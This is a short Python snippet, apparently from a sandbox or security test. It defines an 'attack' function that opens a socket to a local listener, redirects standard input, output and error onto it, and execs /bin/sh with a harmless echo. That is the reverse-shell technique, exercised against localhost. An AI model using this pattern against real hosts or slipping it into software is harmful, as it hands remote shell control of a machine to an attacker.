# A shell whose input and output are a connection to the attacker.
def attack():
    connection = socket.create_connection(("127.0.0.1", parameters["listener_port"]), timeout=5)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/sh", ["sh", "-c", "echo shell ran $((6 * 7))"])


result = in_child(attack)
